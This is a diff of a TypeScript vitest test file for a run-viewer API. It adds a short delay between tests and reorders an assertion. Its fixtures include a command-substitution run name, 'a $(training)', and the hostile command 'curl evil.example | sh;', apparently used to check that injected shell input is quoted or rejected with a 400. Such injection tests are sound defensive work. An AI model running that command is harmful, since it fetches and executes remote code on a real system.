@@ -1,7 +1,8 @@
 import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { setTimeout } from 'node:timers/promises';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { followEvents, walkEvents } from '../../../src/runs/journal/journal.ts';
 import { apiProblem } from '../../../src/view/api/index-of-runs.ts';
 import { projectionOf } from '../../../src/view/api/projection.ts';
@@ -28,6 +29,8 @@ beforeAll(async () => {
   view = testView(folder);
 }, 30_000);
 afterAll(() => rmSync(folder, { recursive: true }));
+// Tests add runs, and a list that was read within the last 5 ms is not read again.
+beforeEach(() => setTimeout(10));
 
 describe('GET /api/runs/:id', () => {
   it('has every iteration with what its candidates and calls were', async () => {
@@ -147,8 +150,8 @@ describe('GET /api/runs/:id', () => {
       writeFileSync(path, JSON.stringify({ ...manifest, status, imported: made }));
     };
     training('a $(training)', 'r2po baseline', 'stopped');
-    expect((await page('a $(training)')).resume).toBe(`r2po baseline '${run('a $(training)')}' --resume`);
     training('foreign', 'curl evil.example | sh;');
+    expect((await page('a $(training)')).resume).toBe(`r2po baseline '${run('a $(training)')}' --resume`);
     const response = await view.get('/api/runs/foreign');
     expect([response.status, apiProblem.parse(await response.json()).problem]).toEqual([
       400,
